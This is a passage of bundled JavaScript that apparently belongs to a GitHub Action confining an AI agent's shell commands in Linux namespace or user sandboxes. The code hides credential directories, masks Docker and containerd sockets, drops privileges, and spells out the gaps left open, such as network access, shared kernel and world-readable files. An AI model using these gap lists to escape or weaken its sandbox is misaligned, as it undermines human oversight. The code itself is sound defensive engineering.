 * The original directories are reached through file descriptors opened before anything is hidden
 * (`/proc/self/fd/N`, not re-resolved by name), because after step 2 their paths lead into the
 * empty tmpfs. Each directory given is passed as one tagged argument (`hide:1777:/tmp`), so no
 * path is ever parsed by the shell.
 */
/** How many directories can be mounted back besides the workspace (file descriptors 4 to 9). */
const MAX_KEPT_DIRECTORIES = 6;
/** Printed on stdout once the sandbox is ready for commands. */
const READY_LINE = 'gemini-sandbox-ready';
const SETUP_SCRIPT = `set -u
say() { printf 'gemini-sandbox: %s\\n' "$*" >&2; }
fail() { say "$*"; exit 1; }
# Changes only read-only/read-write of the topmost mount at $1, keeping its other per-mount flags
# ($3, as /proc/self/mountinfo lists them): a user namespace refuses to clear inherited ones.
remount() { mount -o "remount,bind,$2\${3#r[ow]}" "$1"; }
options_of() {
  found=
  while read -r _ _ _ _ point opts _; do
    case $point in *\\\\*) point=$(printf '%b' "$point");; esac
    [ "$point" = "$1" ] && found=$opts
  done < /proc/self/mountinfo
  printf '%s' "$found"
}
ws= uid=0 gid=0 net=0 fd=3
for arg; do
  case $arg in
    ws:*) ws=\${arg#ws:} ;;
    uid:*) uid=\${arg#uid:} ;;
    gid:*) gid=\${arg#gid:} ;;
    net:*) net=\${arg#net:} ;;
  esac
done
[ -n "$ws" ] || fail 'no workspace given'
exec 3<"$ws" || fail "cannot open the workspace $ws"
for arg; do
  case $arg in keep:*)
    fd=$((fd + 1))
    eval "exec $fd<\\"\\\${arg#keep:}\\"" || fail "cannot open \${arg#keep:}"
  esac
done

while read -r _ _ _ _ point opts _; do
  case $point in *\\\\*) point=$(printf '%b' "$point");; esac
  case $point in /proc|/proc/*|/dev/pts|/dev/pts/*) continue ;; esac
  case $opts in ro|ro,*) continue ;; esac
  remount "$point" ro "$opts" 2>/dev/null || say "could not make $point read-only"
done < /proc/self/mountinfo

for arg; do
  case $arg in hide:*)
    rest=\${arg#hide:}; mode=\${rest%%:*}; dir=\${rest#*:}
    mkdir -p "$dir" 2>/dev/null
    if [ "$mode" = 1777 ]; then owner=; else owner=",uid=$uid,gid=$gid"; fi
    mount -t tmpfs -o "nosuid,nodev,mode=$mode$owner" gemini-sandbox "$dir" || fail "cannot hide $dir"
  esac
done

fd=3
for arg; do
  case $arg in keep:*)
    fd=$((fd + 1)); dir=\${arg#keep:}
    mkdir -p "$dir" && mount -c --bind "/proc/self/fd/$fd" "$dir" &&
      remount "$dir" ro "$(options_of "$dir")" || fail "cannot keep $dir visible"
  esac
done

mkdir -p "$ws" && mount -c --bind /proc/self/fd/3 "$ws" || fail "cannot mount the workspace $ws"
remount "$ws" rw "$(options_of "$ws")" || fail "cannot make the workspace $ws writable"
if [ -d "$ws/.git" ]; then
  mount --bind "$ws/.git" "$ws/.git" && remount "$ws/.git" ro "$(options_of "$ws/.git")" ||
    fail "cannot make $ws/.git read-only"
fi

for arg; do
  case $arg in mask:*)
    file=\${arg#mask:}
    if [ -e "$file" ]; then mount --bind /dev/null "$file" || fail "cannot cover $file"; fi
  esac
done

if [ "$net" = 1 ] && command -v ip >/dev/null 2>&1; then ip link set lo up 2>/dev/null; fi

while [ "$fd" -ge 3 ]; do eval "exec $fd<&-"; fd=$((fd - 1)); done
cd /
# The namespace ends with its init. The Action ends it by killing it; should the Action go away
# without that, its end of the standard input pipe closes, and the watcher ends it instead.
exec 3<&0
sh -c 'read -r _; kill -TERM 1' gemini-sandbox-watch <&3 >/dev/null 2>&1 &
exec 3<&-
echo ${READY_LINE}
exec </dev/null >/dev/null 2>&1
# The init, under a short name: it reaps orphaned processes while it waits.
exec sh -c 'trap "exit 0" TERM; while :; do sleep 86400 & wait $!; done' gemini-sandbox-init
`;
/** The script's arguments: one tagged argument per setting or directory. */
function setupArguments(setup) {
    if (setup.keep.length > MAX_KEPT_DIRECTORIES) {
        throw new Error(`at most ${MAX_KEPT_DIRECTORIES} directories can be kept visible`);
    }
    return [
        `ws:${setup.workspaceRoot}`,
        `uid:${setup.uid}`,
        `gid:${setup.gid}`,
        `net:${setup.ownNetwork ? 1 : 0}`,
        ...setup.hide.map((dir) => `hide:${dir.mode}:${dir.path}`),
        ...setup.keep.map((dir) => `keep:${dir}`),
        ...setup.mask.map((file) => `mask:${file}`),
    ];
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: ./src/platform/runner-file-commands.ts
var runner_file_commands = __webpack_require__(32183);
;// CONCATENATED MODULE: ./src/platform/sandbox/sandbox-paths.ts
/**
 * Which directories a namespace sandbox hides, which stay visible under them, and which sockets
 * it covers. Derived from the Action's environment and the machine, never from the model.
 *
 * Hidden (an empty private tmpfs over each):
 * - the home directory (from HOME, the password database and Node's view): credentials of git,
 *   ssh, docker, cloud CLIs, and on GitHub-hosted runners also the other checkouts and the
 *   runner's temporary directory;
 * - the temporary directories (/tmp, /var/tmp, /dev/shm, TMPDIR): other processes' files;
 * - RUNNER_TEMP and the directories of the workflow file commands (GITHUB_ENV, GITHUB_OUTPUT…),
 *   which change later steps of the job, and XDG_RUNTIME_DIR (agent sockets);
 * - the runner's own installation (found from the Node executable running the Action): its
 *   credentials and diagnostic logs.
 * Kept visible, read-only: the tool cache (RUNNER_TOOL_CACHE, AGENT_TOOLSDIRECTORY) and PATH
 * entries named `bin`, where they lie under a hidden directory, so the programs a workflow set up
 * still run.
 */






/** Directories that must stay as they are: hiding one of them (or a parent) breaks every program. */
const SYSTEM_DIRECTORIES = ['/usr', '/bin', '/sbin', '/lib', '/lib64', '/etc', '/proc', '/sys'];
const TEMPORARY_DIRECTORIES = ['/tmp', '/var/tmp', '/dev/shm'];
/** Sockets of container engines: whoever can reach one can start a privileged container. */
const CONTAINER_SOCKETS = [
    '/run/docker.sock',
    '/var/run/docker.sock',
    '/run/containerd/containerd.sock',
    '/run/podman/podman.sock',
    '/run/user/0/podman/podman.sock',
];
async function sandboxPaths(input) {
    const { environments } = input;
    const workspace = input.workspaceRoot;
    const all = (name) => environments.map((env) => env[name]);
    const homes = input.homes ?? [external_node_os_default().homedir(), safeUserHome()];
    const temporary = [...TEMPORARY_DIRECTORIES, external_node_os_default().tmpdir(), ...all('TMPDIR')];
    const other = [
        ...all('RUNNER_TEMP'),
        ...all('XDG_RUNTIME_DIR'),
        runnerRoot(input.execPath ?? process.execPath),
        ...runner_file_commands/* FILE_COMMAND_VARIABLES */.X.flatMap((name) => all(name).map((file) => (file ? external_node_path_default().dirname(file) : undefined))),
    ];
    const candidates = [
        ...(await existingDirectories([...all('HOME'), ...homes])).map((dir) => ({
            path: dir,
            mode: '0700',
        })),
        ...(await existingDirectories(temporary)).map((dir) => ({ path: dir, mode: '1777' })),
        ...(await existingDirectories(other)).map((dir) => ({ path: dir, mode: '0700' })),
    ];
    const hide = [];
    for (const candidate of candidates) {
        if (!mayHide(candidate.path, workspace))
            continue;
        if (hide.some((dir) => dir.path === candidate.path))
            continue;
        hide.push(candidate);
    }
    // Outer directories first: an inner one is then created inside the outer one's tmpfs.
    hide.sort((a, b) => depth(a.path) - depth(b.path));
    const hidden = hide.map((dir) => dir.path);
    const keepCandidates = await existingDirectories([
        ...all('RUNNER_TOOL_CACHE'),
        ...all('AGENT_TOOLSDIRECTORY'),
        ...all('PATH')
            .flatMap((value) => (value ?? '').split((external_node_path_default()).delimiter))
            .filter((entry) => external_node_path_default().basename(entry) === 'bin'),
    ]);
    const keep = [
        ...new Set(keepCandidates.filter((dir) => hidden.some((outer) => isInside(dir, outer)) &&
            // Never an ancestor of something hidden or of the workspace: that would show it again.
            !hidden.some((inner) => isInsideOrSame(inner, dir)) &&
            !isInsideOrSame(workspace, dir) &&
            !isInsideOrSame(dir, workspace))),
    ].slice(0, MAX_KEPT_DIRECTORIES);
    const mask = input.maskSockets ? CONTAINER_SOCKETS.filter((file) => (0,external_node_fs_.existsSync)(file)) : [];
    return { hide, keep, mask };
}
function mayHide(dir, workspace) {
    if (dir === external_node_path_default().parse(dir).root)
        return false;
    if (isInsideOrSame(dir, workspace))
        return false;
    return !SYSTEM_DIRECTORIES.some((system) => isInsideOrSame(system, dir));
}
/** True when `inner` is `outer` or lies below it. */
function isInsideOrSame(inner, outer) {
    return inner === outer || isInside(inner, outer);
}
function isInside(inner, outer) {
    const relative = external_node_path_default().relative(outer, inner);
    return relative !== '' && !relative.startsWith('..') && !external_node_path_default().isAbsolute(relative);
}
function depth(dir) {
    return dir.split((external_node_path_default()).sep).filter((part) => part !== '').length;
}
/** The absolute ones that exist as directories, as real paths (a mount lands on the target). */
async function existingDirectories(candidates) {
    const found = [];
    for (const candidate of candidates) {
        if (candidate === undefined || !external_node_path_default().isAbsolute(candidate))
            continue;
        try {
            const real = await (0,promises_.realpath)(candidate);
            if ((await (0,promises_.stat)(real)).isDirectory() && !found.includes(real))
                found.push(real);
        }
        catch {
            // Missing or unreadable: nothing to hide there.
        }
    }
    return found;
}
function safeUserHome() {
    try {
        return external_node_os_default().userInfo().homedir;
    }
    catch {
        return undefined;
    }
}
/**
 * The GitHub Actions runner's installation directory when the Action runs under one: Node comes
 * from its `externals/` (`<root>/externals/node24/bin/node`), next to `bin/Runner.Worker`.
 */
function runnerRoot(execPath) {
    let dir = external_node_path_default().dirname(execPath);
    for (let level = 0; level < 5; level += 1) {
        if (external_node_path_default().basename(dir) === 'externals') {
            const root = external_node_path_default().dirname(dir);
            return (0,external_node_fs_.existsSync)(external_node_path_default().join(root, 'bin', 'Runner.Worker')) ||
                (0,external_node_fs_.existsSync)(external_node_path_default().join(root, 'bin', 'Runner.Worker.dll'))
                ? root
                : undefined;
        }
        const parent = external_node_path_default().dirname(dir);
        if (parent === dir)
            return undefined;
        dir = parent;
    }
    return undefined;
}

// EXTERNAL MODULE: ./src/platform/sandbox/run-program.ts
var run_program = __webpack_require__(17583);
;// CONCATENATED MODULE: ./src/platform/sandbox/workspace-loan.ts

async function lendWorkspace(options) {
    const { workspaceRoot, owner, borrower, logger } = options;
    const asRoot = options.asRoot ?? [];
    const gitDir = `${escapeFindPattern(workspaceRoot)}/.git`;
    const handOver = async () => {
        const result = await options.run([
            ...asRoot,
            'find',
            workspaceRoot,
            '-path',
            gitDir,
            '-prune',
            '-o',
            '-user',
            String(owner.uid),
            '-exec',
            'chown',
            '-h',
            `${borrower.uid}:${borrower.gid}`,
            '{}',
            '+',
        ]);
        if (result.exitCode !== 0) {
            logger.warning(`Could not hand the workspace to the sandbox user; commands may fail to write files: ${(0,run_program/* failureText */.k)(result)}`);
        }
    };
    await handOver();
    let returned = false;
    return {
        refresh: async () => {
            if (!returned)
                await handOver();
        },
        giveBack: async () => {
            if (returned)
                return;
            returned = true;
            const result = await options.run([
                ...asRoot,
                'find',
                workspaceRoot,
                '-user',
                String(borrower.uid),
                '-exec',
                'chown',
                '-h',
                `${owner.uid}:${owner.gid}`,
                '{}',
                '+',
            ]);
            if (result.exitCode !== 0) {
                logger.warning(`Could not give the workspace back from the sandbox user: ${(0,run_program/* failureText */.k)(result)}`);
            }
        },
    };
}
/** `find -path` takes a glob: a workspace path with `*`, `?` or `[` must match only itself. */
function escapeFindPattern(text) {
    return text.replace(/[\\*?[\]]/g, (char) => `\\${char}`);
}

;// CONCATENATED MODULE: ./src/platform/sandbox/namespace-session.ts







const DEFAULT_START_TIMEOUT_MS = 20_000;
/** Never prompts: without a passwordless rule it fails at once instead of hanging. */
const DEFAULT_SUDO = ['sudo', '-n', '--'];
/**
 * Changes into the command's directory after the mount namespace was entered, then runs it. The
 * path is resolved inside the sandbox: a directory opened before entering (as `nsenter --wd`
 * does) would be the host's, and `..` from it would lead back into the host's file system.
 */
const CHANGE_DIRECTORY = 'cd -- "$1" && shift && exec "$@"';
async function openNamespaceSession(config, options) {
    const { elevation, logger } = config;
    const workspace = await (0,promises_.realpath)(options.workspaceRoot);
    const userns = elevation === 'userns';
    const commandUser = userns ? { uid: 0, gid: 0 } : (config.user ?? config.action);
    const paths = await sandboxPaths({
        environments: [config.env, options.commandEnv ?? {}],
        workspaceRoot: workspace,
        // Cheap, and it matters wherever the command keeps groups or runs with uid 0.
        maskSockets: true,
    });
    const sudo = config.sudo ?? DEFAULT_SUDO;
    const asRoot = elevation === 'sudo' ? sudo : [];
    const loan = !userns && config.user !== undefined && config.user.uid !== config.action.uid
        ? await lendWorkspace({
            workspaceRoot: workspace,
            owner: config.action,
            borrower: config.user,
            run: config.run,
            logger,
            asRoot,
        })
        : undefined;
    let holder;
    try {
        holder = await startHolder([
            ...asRoot,
            'unshare',
            ...(userns ? ['--user', '--map-root-user'] : []),
            '--pid',
            '--fork',
            '--kill-child',
            '--mount',
            '--mount-proc',
            ...(options.isolateNetwork ? ['--net'] : []),
            '--',
            'sh',
            '-c',
            SETUP_SCRIPT,
            'gemini-sandbox',
            ...setupArguments({
                workspaceRoot: workspace,
                ...paths,
                uid: commandUser.uid,
                gid: commandUser.gid,
                ownNetwork: options.isolateNetwork,
            }),
        ], {
            cwd: workspace,
            timeoutMs: config.startTimeoutMs ?? DEFAULT_START_TIMEOUT_MS,
            logger,
            killAsRoot: elevation === 'sudo' ? sudo : undefined,
        });
    }
    catch (error) {
        await loan?.giveBack();
        throw error;
    }
    const drop = [
        '--no-new-privs',
        '--inh-caps=-all',
        '--bounding-set=-all',
        ...(userns
            ? []
            : [`--reuid=${commandUser.uid}`, `--regid=${commandUser.gid}`, '--clear-groups']),
    ];
    const enter = [
        'nsenter',
        `--target=${holder.initPid}`,
        ...(userns ? ['--user', '--preserve-credentials'] : []),
        '--mount',
        '--pid',
        ...(options.isolateNetwork ? ['--net'] : []),
        '--',
    ];
    let closed = false;
    return {
        wrap: async (command) => {
            if (closed)
                throw new Error('The sandbox of this session was closed.');
            if (!(await (0,process_group/* isProcessRunning */.DL)(holder.initPid))) {
                throw new Error('The sandbox ended unexpectedly; no more commands can run in it.');
            }
            await loan?.refresh();
            const cwd = await directoryInside(command.cwd, options.workspaceRoot, workspace);
            const env = loan ? withSafeDirectory(command.env, workspace) : command.env;
            const run = ['sh', '-c', CHANGE_DIRECTORY, 'gemini-sandbox', cwd, ...command.argv];
            if (elevation === 'sudo') {
                // sudo resets the environment; `env -i` sets exactly the command's again.
                const pairs = Object.entries(env).map(([name, value]) => `${name}=${value}`);
                return {
                    argv: [...sudo, ...enter, 'setpriv', ...drop, '--', 'env', '-i', ...pairs, ...run],
                    env: { PATH: env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin' },
                    cwd: '/',
                };
            }
            return { argv: [...enter, 'setpriv', ...drop, '--', ...run], env, cwd: '/' };
        },
        pidInSandbox: (pid) => pidInNamespace(pid),
        close: async () => {
            if (closed)
                return;
            closed = true;
            await holder.stop(config.run);
            await loan?.giveBack();
        },
    };
}
/** Starts the namespace and waits until its setup reports ready. */
async function startHolder(argv, options) {
    const [program, ...args] = argv;
    if (program === undefined)
        throw new Error('no program to start the sandbox with');
    const child = (0,external_node_child_process_.spawn)(program, args, {
        cwd: options.cwd,
        env: { PATH: process.env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin' },
        // Standard input stays open for the sandbox's lifetime: its closing ends the sandbox.
        stdio: ['pipe', 'pipe', 'pipe'],
        detached: true,
    });
    await waitUntilReady(child, options);
    child.stdout.destroy();
    child.stderr.destroy();
    // Neither the sandbox nor the pipe keeping it alive may hold the Action's event loop open.
    child.unref();
    child.stdin.unref?.();
    const leader = child.pid;
    if (leader === undefined)
        throw new Error('the sandbox did not start');
    const initPid = await findNamespaceInit(leader);
    if (initPid === undefined) {
        signalGroup(leader);
        throw new Error('the sandbox started, but its init process could not be found');
    }
    return {
        initPid,
        stop: async (run) => {
            // Killing a PID namespace's init kills every process in it. Root-owned (sudo) processes
            // can only be killed through sudo.
            if (options.killAsRoot)
                await run([...options.killAsRoot, 'kill', '-KILL', String(initPid)]);
            else
                signalGroup(leader);
            await waitForExit(initPid);
            child.stdin.destroy();
        },
    };
}
function waitUntilReady(child, options) {
    return new Promise((resolve, reject) => {
        let stdout = '';
        let stderr = '';
        const fail = (reason) => {
            clearTimeout(timer);
            if (child.pid !== undefined)
                signalGroup(child.pid);
            // Where the processes are root's and cannot be signalled, the closed pipe ends them.
            child.stdin?.destroy();
            const said = stderr.trim().split('\n').slice(-3).join(' ');
            reject(new Error(said === '' ? reason : `${reason}: ${said}`));
        };
        const timer = setTimeout(() => {
            fail(`setting up took longer than ${options.timeoutMs / 1000} s`);
        }, options.timeoutMs);
        child.stderr?.on('data', (chunk) => {
            stderr += chunk.toString('utf8');
        });
        child.stdout?.on('data', (chunk) => {
            stdout += chunk.toString('utf8');
            if (!stdout.includes(READY_LINE))
                return;
            clearTimeout(timer);
            child.removeAllListeners('exit');
            for (const line of stderr.trim().split('\n')) {
                if (line !== '')
                    options.logger.debug(`sandbox setup: ${line}`);
            }
            resolve();
        });
        child.on('error', (error) => {
            fail(`could not start ${error.message}`);
        });
        child.on('exit', (code, signal) => {
            // The output may still be in the pipes; give it a moment so the message has the reason.
            setTimeout(() => {
                fail(`setting up failed (${signal ?? `exit code ${code ?? '?'}`})`);
            }, 50);
        });
    });
}
function signalGroup(leader) {
    try {
        process.kill(-leader, 'SIGKILL');
    }
    catch {
        // Gone already.
    }
}
async function waitForExit(pid) {
    for (let waited = 0; waited < 5000; waited += 20) {
        if (!(await (0,process_group/* isProcessRunning */.DL)(pid)))
            return;
        await new Promise((resolve) => setTimeout(resolve, 20));
    }
}
/** The first process below `root` that is the init (PID 1) of a PID namespace of its own. */
async function findNamespaceInit(root) {
    let level = [root];
    for (let depth = 0; depth < 4 && level.length > 0; depth += 1) {
        const next = [];
        for (const pid of level) {
            const ids = await namespacePids(pid);
            if (ids.length > 1 && ids[ids.length - 1] === 1)
                return pid;
            next.push(...(await childrenOf(pid)));
        }
        level = next;
    }
    return undefined;
}
/** The PIDs a process has in each PID namespace it belongs to, outermost first. */
async function namespacePids(pid) {
    try {
        const status = await (0,promises_.readFile)(`/proc/${pid}/status`, 'utf8');
        const line = /^NSpid:\s*(.*)$/m.exec(status)?.[1] ?? '';
        return line
            .split(/\s+/)
            .filter((field) => field !== '')
            .map(Number);
    }
    catch {
        return [];
    }
}
async function childrenOf(pid) {
    try {
        const text = await (0,promises_.readFile)(`/proc/${pid}/task/${pid}/children`, 'utf8');
        return text
            .split(/\s+/)
            .filter((field) => field !== '')
            .map(Number);
    }
    catch {
        return [];
    }
}
async function pidInNamespace(pid) {
    const ids = await namespacePids(pid);
    return ids[ids.length - 1] ?? pid;
}
/** The directory as the sandbox sees it: the workspace is mounted at its real path. */
async function directoryInside(cwd, given, real) {
    if (isInsideOrSame(cwd, real))
        return cwd;
    if (isInsideOrSame(cwd, given))
        return external_node_path_default().join(real, external_node_path_default().relative(given, cwd));
    return (0,promises_.realpath)(cwd);
}
/**
 * git refuses a repository owned by another user; the sandbox user may read this one. Passed as
 * command-line configuration through the environment, which git takes as protected.
 */
function withSafeDirectory(env, workspace) {
    const count = Number.parseInt(env.GIT_CONFIG_COUNT ?? '0', 10);
    const index = Number.isInteger(count) && count > 0 ? count : 0;
    return {
        ...env,
        GIT_CONFIG_COUNT: String(index + 1),
        [`GIT_CONFIG_KEY_${index}`]: 'safe.directory',
        [`GIT_CONFIG_VALUE_${index}`]: workspace,
    };
}

;// CONCATENATED MODULE: ./src/platform/sandbox/sandbox-descriptions.ts
const NETWORK_GAP = 'Network: commands can reach the network, so whatever they can read they can send.';
const WORKSPACE_GAP = 'The workspace: anything secret kept in the checkout can be read.';
const KERNEL_GAP = 'The kernel is shared: a kernel exploit escapes any sandbox.';
function namespaceDescription(options) {
    const { elevation, user } = options;
    let who;
    const gaps = [NETWORK_GAP, WORKSPACE_GAP];
    if (elevation === 'userns') {
        who = `the Action's user ${options.actionUser} (uid 0 inside a user namespace)`;
        gaps.push("Files of the Action's user outside the hidden directories can be read.", 'Supplementary groups stay in effect inside a user namespace (container engine sockets are covered).');
    }
    else if (user !== undefined) {
        who = `the unprivileged user ${user.name}`;
        gaps.push('Files readable by every user can be read.');
        if (!user.dedicated) {
            gaps.push(`The user ${user.name} is shared with other services on this machine.`);
        }
    }
    else {
        who = `the Action's user ${options.actionUser} without its supplementary groups`;
        gaps.push("Files of the Action's user outside the hidden directories can be read.");
    }
    gaps.push(KERNEL_GAP);
    return {
        describe: `Shell commands run in their own PID and mount namespaces (a private /proc: the Action's processes are out of sight) as ${who}, with no capabilities and no_new_privs (sudo and other set-user-ID programs cannot raise privileges); the home, temporary and runner directories are replaced by empty private ones, and everything outside the workspace is read-only, the workspace's .git included.`,
        gaps,
    };
}
function userDescription(user) {
    return {
        describe: `Shell commands run as the unprivileged user ${user.name} with no capabilities and no_new_privs, so the Action's process (its environment and memory) is out of reach and sudo cannot raise privileges; the workspace is lent to that user during the session.`,
        gaps: [
            NETWORK_GAP,
            WORKSPACE_GAP,
            'Other processes are visible (ps lists them, without their environment).',
            'Files readable by every user can be read, and places every user may write to, such as /tmp, can be written.',
            ...(user.dedicated
                ? []
                : [`The user ${user.name} is shared with other services on this machine.`]),
            KERNEL_GAP,
        ],
    };
}
const PLATFORM_NAMES = {
    darwin: 'macOS',
    win32: 'Windows',
    linux: 'Linux',
};
function platformName(platform) {
    return PLATFORM_NAMES[platform] ?? platform;
}
function noneDescription(options) {
    const base = "Shell commands run as the Action's own user with only an allow-listed environment; the policy, and its check that commands name files inside the workspace only, are the guards.";
    let describe = base;
    if (options.platform !== 'linux') {
        describe = `No sandbox exists on ${platformName(options.platform)} runners. ${base} For runs on untrusted input, use a Linux runner.`;
    }
    else if (options.reason !== undefined) {
        describe = `No sandbox could be set up on this machine (${options.reason}). ${base}`;
    }
    return {
        describe,
        gaps: [
            "The Action's process: a command can read its environment and memory where the system lets a user inspect its own processes.",
            'Privileges: passwordless sudo, where the runner has it, gives root.',
            "Files: the home directory and everything else the Action's user can read or write.",
            NETWORK_GAP,
        ],
    };
}

// EXTERNAL MODULE: ./src/platform/sandbox/sandbox-types.ts
var sandbox_types = __webpack_require__(9332);
// EXTERNAL MODULE: ./src/platform/sandbox/sandbox-user.ts
var sandbox_user = __webpack_require__(62014);
;// CONCATENATED MODULE: ./src/platform/sandbox/user-session.ts
/**
 * A user sandbox for one agent session: commands run as the unprivileged sandbox user, with
 * no_new_privs and no capabilities, but in the Action's namespaces. For machines where namespaces
 * cannot be created but the Action runs as root (container jobs). The kernel keeps another user
 * out of the Action's process (environment, memory, signals) and out of files that are not open
 * to others; everything world-readable stays readable.
 */




async function openUserSession(config, options) {
    const { user } = config;
    const workspace = await (0,promises_.realpath)(options.workspaceRoot);
    const blocked = await firstClosedAncestor(workspace, user);
    if (blocked !== undefined) {
        throw new Error(`the sandbox user ${user.name} cannot reach the workspace: ${blocked} is not open to other users`);
    }
    const loan = await lendWorkspace({
        workspaceRoot: workspace,
        owner: config.action,
        borrower: user,
        run: config.run,
        logger: config.logger,
    });
    // The Action's home is root's; the sandbox user gets an empty one it can write caches to.
    const home = await (0,promises_.mkdtemp)(external_node_path_default().join(external_node_os_default().tmpdir(), 'gemini-sandbox-home-'));
    await (0,promises_.chown)(home, user.uid, user.gid);
    await (0,promises_.chmod)(home, 0o700);
    let closed = false;
    return {
        wrap: async (command) => {
            if (closed)
                throw new Error('The sandbox of this session was closed.');
            await loan.refresh();
            return {
                argv: [
                    'setpriv',
                    `--reuid=${user.uid}`,
                    `--regid=${user.gid}`,
                    '--clear-groups',
                    '--no-new-privs',
                    '--inh-caps=-all',
                    '--bounding-set=-all',
                    '--',
                    ...command.argv,
                ],
                env: {
                    ...command.env,
                    HOME: home,
                    GIT_CONFIG_COUNT: '1',
                    GIT_CONFIG_KEY_0: 'safe.directory',
                    GIT_CONFIG_VALUE_0: workspace,
                },
                cwd: command.cwd,
            };
        },
        pidInSandbox: (pid) => Promise.resolve(pid),
        close: async () => {
            if (closed)
                return;
            closed = true;
            // Whatever escaped its process group (a daemon) is found by its owner. Only a dedicated
            // user's processes are all ours; `nobody` may be running other services.
            if (user.dedicated)
                await killProcessesOf(user.uid);
            await loan.giveBack();
            await (0,promises_.rm)(home, { recursive: true, force: true });
        },
    };
}
/** The first directory on the way to `target` that `user` may not pass through. */
async function firstClosedAncestor(target, user) {
    let dir = target;
    const chain = [];
    for (;;) {
        chain.unshift(dir);
        const parent = external_node_path_default().dirname(dir);
        if (parent === dir)
            break;
        dir = parent;
    }
    for (const entry of chain) {
        const info = await (0,promises_.stat)(entry);
        const open = (info.mode & 0o001) !== 0 ||
            (info.uid === user.uid && (info.mode & 0o100) !== 0) ||
            (info.gid === user.gid && (info.mode & 0o010) !== 0);
        // The workspace itself is lent to the user, so only its ancestors matter.
        if (!open && entry !== target)
            return entry;
    }
    return undefined;
}
async function killProcessesOf(uid) {
    for (let round = 0; round < 3; round += 1) {
        const pids = await processesOf(uid);
        if (pids.length === 0)
            return;
        for (const pid of pids) {
            try {
                process.kill(pid, 'SIGKILL');
            }
            catch {
                // Gone meanwhile.
            }
        }
        await new Promise((resolve) => setTimeout(resolve, 50));
    }
}
async function processesOf(uid) {
    const names = await (0,promises_.readdir)('/proc');
    const owned = [];
    for (const name of names) {
        if (!/^\d+$/.test(name))
            continue;
        try {
            const status = await (0,promises_.readFile)(`/proc/${name}/status`, 'utf8');
            const real = /^Uid:\s+(\d+)/m.exec(status)?.[1];
            const state = /^State:\s+(\S)/m.exec(status)?.[1];
            if (real === String(uid) && state !== 'Z')
                owned.push(Number(name));
        }
        catch {
            // Gone meanwhile.
        }
    }
    return owned;
}

;// CONCATENATED MODULE: ./src/platform/sandbox/resolve-sandbox.ts
/**
 * Picks the sandbox for a run. `auto` takes the strongest that works on this machine:
 * a namespace sandbox (as a separate user when the Action runs as root), else a user sandbox,
 * else none. Whether one works is found out by running it once for real — setting it up on an
 * empty directory and running a command in it — not by reading kernel settings, which never tell
 * the whole story (AppArmor, seccomp in containers, sudo rules). The outcome is remembered for the
 * life of the process.
 *
 * Asking for `namespace` or `user` where it cannot work is a configuration error: a workflow that
 * demands a sandbox must not quietly run without one.
 */










/** Probe outcomes, per way of setting up, for the life of the process. */
const probes = new Map();
async function resolveSandbox(mode, options) {
    const platform = options.platform ?? process.platform;
    const setting = options.setting ?? 'sandbox';
    if (mode === 'none')
        return noneSandbox({ platform });
    if (platform !== 'linux') {
        if (mode === 'auto')
            return noneSandbox({ platform });
        throw new errors/* ConfigurationError */.j1(`expected a sandbox this runner supports: ${mode} needs Linux, and this is ${platformName(platform)}. Use auto (no sandbox there) or none.`, { input: setting });
    }
    const problems = [];
    if (mode === 'auto' || mode === 'namespace') {
        for (const elevation of await elevationsFor(options)) {
            const found = await probe(`namespace:${elevation}`, options, () => probeNamespace(elevation, options));
            if (found.works)
                return namespaceSandbox(elevation, found.user, options);
            problems.push(`namespace via ${elevation}: ${found.problem}`);
            options.logger.debug(`Sandbox: namespace via ${elevation} is not available: ${found.problem}`);
        }
    }
    if (mode === 'auto' || mode === 'user') {
        const found = await probe('user', options, () => probeUser(options));
        if (found.works && found.user !== undefined)
            return userSandbox(found.user, options);
        const problem = found.works ? 'no sandbox user' : found.problem;
        problems.push(`user: ${problem}`);
        options.logger.debug(`Sandbox: user is not available: ${problem}`);
    }
    if (mode === 'auto')
        return noneSandbox({ platform, reason: problems.join('; ') });
    throw new errors/* ConfigurationError */.j1(`expected a sandbox that works on this machine, but ${mode} does not (${problems.join('; ')}). Use auto to take the strongest one that works, or none.`, { input: setting });
}
/** How an Action run chooses to go without a sandbox. */
const ACTION_SANDBOX_OFF = 'Set the input sandbox: none to run without one on purpose and silence this warning.';
/**
 * Logs which sandbox runs — when there is none although one was wanted, once and plainly, with
 * what that means and how to silence it (`silence`; the Action's input by default) — and returns
 * the line for the job summary, which also says what the sandbox does not protect.
 */
function reportSandbox(sandbox, options) {
    const line = (0,sandbox_types/* sandboxSummaryLine */.k)(sandbox, options);
    const notice = unsandboxedNotice(sandbox, {
        mode: options.mode,
        silence: options.silence ?? ACTION_SANDBOX_OFF,
    });
    if (notice !== undefined) {
        options.logger.warning(notice);
        options.logger.debug(line);
    }
    else if (options.quiet === true) {
        options.logger.debug(line);
    }
    else {
        options.logger.info(line);
    }
    return line;
}
/**
 * What a run without the sandbox it wanted means, in words for whoever started it; undefined when
 * a sandbox runs or none was asked for.
 */
function unsandboxedNotice(sandbox, options) {
    if (sandbox.kind !== 'none' || options.mode === 'none')
        return undefined;
    const why = sandbox.unavailable ?? 'none could be set up here';
    return (`No sandbox: ${why}, so shell commands run unsandboxed, as this process's user. The policy ` +
        'still decides which commands run, and commands that read files (cat, grep, ls and the like) ' +
        'may only name files inside the workspace; but a command the policy allows that runs code ' +
        '(a test script, say) can read and change whatever this user can, and reach the network. ' +
        options.silence);
}
function noneSandbox(options) {
    const unavailable = options.platform !== 'linux'
        ? `no sandbox exists on ${platformName(options.platform)}`
        : options.reason !== undefined
            ? 'none of the sandboxes could be set up on this machine (the debug log says why)'
            : undefined;
    return {
        kind: 'none',
        ...noneDescription(options),
        canIsolateNetwork: false,
        ...(unavailable === undefined ? {} : { unavailable }),
        open: () => Promise.resolve(passThroughSession),
    };
}
const passThroughSession = {
    wrap: (command) => Promise.resolve(command),
    pidInSandbox: (pid) => Promise.resolve(pid),
    close: () => Promise.resolve(),
};
function actionOwner(options) {
    const uid = options.action?.uid ?? process.getuid?.() ?? -1;
    const gid = options.action?.gid ?? process.getgid?.() ?? -1;
    let name = options.action?.name;
    if (name === undefined) {
        try {
            name = external_node_os_default().userInfo().username;
        }
        catch {
            name = `uid ${uid}`;
        }
    }
    return { uid, gid, name };
}
async function elevationsFor(options) {
    if (options.elevations !== undefined)
        return options.elevations;
    if (actionOwner(options).uid === 0)
        return ['root'];
